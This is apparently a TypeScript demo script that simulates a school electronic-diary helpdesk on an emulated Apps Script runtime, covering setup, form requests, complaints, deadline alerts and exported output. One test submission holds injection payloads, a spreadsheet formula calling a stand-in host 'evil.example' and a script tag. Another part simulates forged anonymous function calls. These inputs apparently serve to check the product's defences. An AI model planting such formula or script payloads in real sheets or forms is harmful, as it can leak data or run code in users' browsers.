/**
 * npm start: the helpdesk on the embedded Apps Script runtime, as a school would live it, with no Google
 * account. Leaves what a person would look at under out/: the workbook the script built (helpdesk.xlsx),
 * every e-mail that left the school account (mail/), the executions log (executions.txt) and the story of
 * the run (demo.md). It grows with the product into a whole simulated school month.
 */
import fs from 'node:fs';
import path from 'node:path';
import { Runtime } from '../emulator/index';
import { person } from '../emulator/people';
import { advance, advanceTo, listTriggers } from '../emulator/scheduler';
import { submitForm } from '../emulator/services/forms';
import { type MailRecord, sentMail } from '../emulator/services/mail';
import { propertyStore } from '../emulator/services/properties';
import {
  containerSpreadsheet,
  menusFor,
  readSheetValues,
  shareSpreadsheet,
} from '../emulator/services/spreadsheet/index';
import { scriptRun, webRequest } from '../emulator/web';
import { exportXlsx } from '../emulator/xlsx';
import { ru } from '../src/locale/ru';

const root = path.resolve(__dirname, '..');
const out = path.join(root, 'out');
const SCHOOL = 'pomosh.ej.school@gmail.com';
const CONSULTANT = 'konsultant.ivanova@gmail.com';
const DIRECTOR = 'direktor.petrov@gmail.com';
const DEPUTY = 'zam.uvr.sidorova@gmail.com';

type Answers = Record<string, string | string[]>;

function formAnswers(
  who: keyof typeof ru.choices.requesterType,
  name: string,
  contact: string,
  topic: string,
  text: string,
): Answers {
  return {
    [ru.form.requesterType[0]]: ru.choices.requesterType[who],
    [ru.form.name[0]]: name,
    [ru.form.className[0]]: who === 'staff' ? '' : '5А',
    [ru.form.contact[0]]: contact,
    [ru.form.preferredChannel[0]]: contact.includes('@')
      ? ru.choices.preferredChannel.email
      : ru.choices.preferredChannel.phone,
    [ru.form.topic[0]]: topic,
    [ru.form.description[0]]: text,
    [ru.form.consent[0]]: [ru.form.consentChoice],
  };
}

async function main(): Promise<void> {
  fs.rmSync(out, { recursive: true, force: true });
  fs.mkdirSync(path.join(out, 'mail'), { recursive: true });
  const rt = new Runtime({
    bundlePath: path.join(root, 'dist', 'Code.js'),
    manifestPath: path.join(root, 'dist', 'appsscript.json'),
    owner: SCHOOL,
    // Monday 31 August 2026, 16:30 in Perm: the school account sets up the day before term.
    now: '2026-08-31T16:30:00+05:00',
  });
  const story: string[] = ['# Демонстрация: служба помощи по ЭЖ на встроенной среде Apps Script', ''];
  const say = (line: string) => {
    story.push(line);
    console.log(line);
  };

  const ssId = containerSpreadsheet(rt).id;
  for (const email of [CONSULTANT, DIRECTOR, DEPUTY]) shareSpreadsheet(rt, ssId, email, 'editor');
  const school = person(rt, SCHOOL);
  const consultant = person(rt, CONSULTANT);

  say('## 31 августа: настройка');
  say('1. Учётная запись школы открывает таблицу и запускает «Настроить или обновить таблицу».');
  school.open();
  say(indent(school.runOrThrow<{ message: string }>('setup').message));

  say('2. Школа вносит сотрудников с ролями и заполняет контакты консультанта и директора.');
  school.edit(ru.sheets.staff, 'A3:D5', [
    [CONSULTANT, 'Иванова Ирина Ивановна', ru.choices.role.consultant, 'Учитель информатики'],
    [DEPUTY, 'Сидорова Светлана Петровна', ru.choices.role.deputy, 'Заместитель директора по УВР'],
    [DIRECTOR, 'Петров Пётр Петрович', ru.choices.role.director, 'Директор'],
  ]);
  for (const [key, value] of [
    ['consultant.name', 'Иванова Ирина Ивановна'],
    ['consultant.email', CONSULTANT],
    ['consultant.appointmentOrder', '№ 112-од от 28.08.2026'],
    ['director.name', 'Петров Пётр Петрович'],
    ['director.email', DIRECTOR],
  ]) {
    school.edit(ru.sheets.settings, settingCell(rt, key), value);
  }
  say(indent(school.runOrThrow<{ message: string }>('setup').message));
  const forms = JSON.parse(propertyStore(rt, 'document').get('helpdesk.forms') ?? '{}') as {
    requests: { formId: string };
    complaints: { formId: string };
  };

  say('');
  say('## 1 сентября: первый учебный день');
  const submissions: Array<[string, Answers]> = [
    [
      '08:05',
      formAnswers(
        'parent',
        'Смирнова Анна',
        'smirnova.anna@mail.ru',
        ru.choices.topic.diaryAccess,
        'Не могу войти в электронный дневник: после входа через Госуслуги пишет «Нет доступа к организации».',
      ),
    ],
    [
      '09:40',
      formAnswers(
        'staff',
        'Орлова Вера Николаевна',
        'orlova.vn@school-sev.ru',
        ru.choices.topic.timetable,
        'В расписании 7Б не отображается урок физики во вторник, хотя он есть в приказе.',
      ),
    ],
    [
      '11:15',
      formAnswers(
        'parent',
        'Кузнецов Игорь',
        '+7 912 555-01-02',
        ru.choices.topic.grades,
        'Не видно итоговых оценок за прошлый год у сына, 5А класс.',
      ),
    ],
    [
      '12:30',
      formAnswers(
        'student',
        'Павел Л.',
        'pavel.l@mail.ru',
        ru.choices.topic.other,
        'Вы там все идиоты, х.у.й войдёшь в ваш дневник',
      ),
    ],
    [
      '14:10',
      formAnswers(
        'parent',
        'Кузнецов Игорь',
        '89125550102',
        ru.choices.topic.grades,
        'Повторяю вопрос про итоговые оценки сына — так и не видно.',
      ),
    ],
    [
      '16:45',
      formAnswers(
        'parent',
        '=IMPORTXML("http://evil.example","//a")',
        'parent.test@mail.ru',
        ru.choices.topic.attendance,
        '<script>alert(1)</script> пропуски не отображаются',
      ),
    ],
  ];
  const submit = ([time, answers]: [string, Answers]) => {
    advanceTo(rt, `2026-09-01T${time}:00+05:00`);
    const result = submitForm(rt, forms.requests.formId, answers);
    say(
      `${time} — через форму: «${String(answers[ru.form.name[0]])}» → ${result.ok ? 'принято' : `отказ: ${(result.errors ?? []).map((e) => e.message).join('; ')}`}`,
    );
  };
  submissions.slice(0, 5).forEach(submit);
  advanceTo(rt, '2026-09-01T15:20:00+05:00');
  consultant.open();
  say(
    `15:20 — консультант открывает таблицу, меню: ${menusFor(rt, CONSULTANT)
      .map((m) => m.caption)
      .join(', ')}`,
  );
  const phone = consultant.call('registerManualRequest', {
    token: 'demo-phone-1',
    channel: 'phone',
    requesterType: 'parent',
    name: 'Белова Марина',
    className: '2Б',
    email: '',
    phone: '8 (34274) 2-11-09',
    preferredChannel: 'phone',
    topic: ru.choices.topic.diaryAccess,
    description: 'Позвонила в приёмные часы: забыла пароль от дневника, просит перезвонить.',
    consent: true,
  });
  say(
    `15:20 — звонок в приёмные часы, консультант регистрирует: ${(phone.value as { message?: string } | undefined)?.message ?? String(phone.error)}`,
  );
  submissions.slice(5).forEach(submit);
  advanceTo(rt, '2026-09-01T17:05:00+05:00');
  const complaint = submitForm(rt, forms.complaints.formId, {
    [ru.complaintsForm.name[0]]: 'Орлов Пётр',
    [ru.complaintsForm.contact[0]]: 'orlov@mail.ru',
    [ru.complaintsForm.about[0]]: 'Технический консультант',
    [ru.complaintsForm.text[0]]: 'Грубо ответили по телефону.',
  });
  say(`17:05 — жалоба на специалиста через отдельную форму: ${complaint.ok ? 'принята, письмо директору' : 'отказ'}`);
  advanceTo(rt, '2026-09-01T18:00:00+05:00');

  say('');
  say('Посторонний со страницы вызывает функции через google.script.run:');
  const forged = scriptRun(rt, 'runQueue', [{ triggerUid: 'forged' }], { from: 'web-app', user: '' });
  say(indent(`runQueue: ${forged.ok ? 'выполнено (ошибка!)' : `отказ — ${String(forged.error)}`}`));
  const register = scriptRun(rt, 'registerManualRequest', [{ channel: 'phone', topic: 'x', description: 'спам' }], {
    from: 'web-app',
    user: '',
  });
  say(indent(`registerManualRequest: ${register.ok ? 'выполнено (ошибка!)' : `отказ — ${String(register.error)}`}`));

  say('');
  say('## 2 сентября: сроки');
  say(
    'Консультант отвечает Смирновой и Орловой (первый ответ записан), остальные ждут. Проверка сроков идёт каждый час.',
  );
  markFirstResponse(rt, consultant, ['smirnova.anna@mail.ru', 'orlova.vn@school-sev.ru']);
  advanceTo(rt, '2026-09-02T18:00:00+05:00');
  const alerts = sentMail(rt, SCHOOL).filter((m) => /\|(reminder|escalation)\|/.test(m.body));
  const local = new Intl.DateTimeFormat('ru-RU', {
    timeZone: 'Asia/Yekaterinburg',
    dateStyle: 'short',
    timeStyle: 'short',
  });
  for (const m of alerts) say(indent(`${local.format(m.date)} → ${m.to.join(', ')}: ${m.subject}`));

  const rows = readSheetValues(rt, ru.sheets.requests).slice(2);
  const sent = sentMail(rt, SCHOOL);
  say('');
  say(`Итог дня: обращений ${rows.length}, писем отправлено ${sent.length} (все — от ${SCHOOL}).`);
  say(
    `Автоматические задания: ${listTriggers(rt)
      .map((t) => `${t.handler}`)
      .join(', ')} — владелец ${SCHOOL}.`,
  );
  say(indent(consultant.runOrThrow<string>('showHealth')));
  advance(rt, 60_000);

  // The public page as an anonymous visitor of the school's site gets it, and its print view for the board.
  fs.writeFileSync(path.join(out, 'public-page.html'), webRequest(rt, { method: 'GET', visitor: '' }).body);
  fs.writeFileSync(
    path.join(out, 'public-page-print.html'),
    webRequest(rt, { method: 'GET', parameters: { view: 'print' }, visitor: '' }).body,
  );
  await exportXlsx(rt, ssId, path.join(out, 'helpdesk.xlsx'));
  writeMail(sent);
  fs.writeFileSync(
    path.join(out, 'executions.txt'),
    `${rt.executions
      .map(
        (e) =>
          `${new Date(e.startedAt).toISOString()}  ${e.functionName.padEnd(22)} ${e.kind.padEnd(20)} as ${e.effectiveUser} ` +
          `(active: ${e.activeUser || '—'})  ${e.status}${e.error ? `  ${e.error}` : ''}`,
      )
      .join('\n')}\n`,
  );
  fs.writeFileSync(path.join(out, 'demo.md'), `${story.join('\n')}\n`);
  console.log(
    `\nout/: helpdesk.xlsx, mail/ (${sent.length} messages), public-page.html (+ print), executions.txt (${rt.executions.length}), demo.md`,
  );
}

/** The consultant records the first response of the requests from these addresses, in the log as a person would. */
function markFirstResponse(rt: Runtime, consultant: ReturnType<typeof person>, emails: readonly string[]): void {
  const all = readSheetValues(rt, ru.sheets.requests);
  const keys = all[0] as string[];
  const column = (key: string) => String.fromCharCode(65 + keys.indexOf(key));
  all.forEach((row, i) => {
    if (i < 2 || !emails.includes(String(row[keys.indexOf('email')]))) return;
    consultant.edit(ru.sheets.requests, `${column('firstResponseAt')}${i + 1}`, '01.09.2026 17:30');
    consultant.edit(ru.sheets.requests, `${column('status')}${i + 1}`, ru.choices.status.inProgress);
  });
}

/** Every sent message as a page a person can open, and an index of them. */
function writeMail(messages: readonly MailRecord[]): void {
  const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
  const links: string[] = [];
  messages.forEach((m, i) => {
    const file = `${String(i + 1).padStart(3, '0')}.html`;
    const head = `<p><b>От:</b> ${esc(m.fromName ? `${m.fromName} <${m.from}>` : m.from)}<br><b>Кому:</b> ${esc(m.to.join(', '))}<br><b>Дата:</b> ${m.date.toISOString()}<br><b>Тема:</b> ${esc(m.subject)}</p><hr>`;
    // The HTML body is the product's own rendering, with every user text escaped by it.
    fs.writeFileSync(
      path.join(out, 'mail', file),
      `<!DOCTYPE html><meta charset="utf-8"><title>${esc(m.subject)}</title>${head}${m.htmlBody ?? `<pre>${esc(m.body)}</pre>`}`,
    );
    links.push(`<li><a href="${file}">${esc(m.subject)}</a> — ${esc(m.to.join(', '))}</li>`);
  });
  fs.writeFileSync(
    path.join(out, 'mail', 'index.html'),
    `<!DOCTYPE html><meta charset="utf-8"><title>Письма</title><h1>Письма школы</h1><ol>${links.join('')}</ol>`,
  );
}

/** The value cell of a setting, found by its key as the script finds it. */
function settingCell(rt: Runtime, key: string): string {
  const rows = readSheetValues(rt, ru.sheets.settings);
  const keyCol = rows[0].indexOf('key');
  const valueCol = rows[0].indexOf('value');
  const row = rows.findIndex((r) => r[keyCol] === key);
  if (row < 0 || valueCol < 0) throw new Error(`setting ${key} not found`);
  return `${String.fromCharCode(65 + valueCol)}${row + 1}`;
}

function indent(text: string): string {
  return text
    .split('\n')
    .map((l) => `   ${l}`)
    .join('\n');
}

main().catch((e) => {
  console.error(e);
  process.exit(1);
});
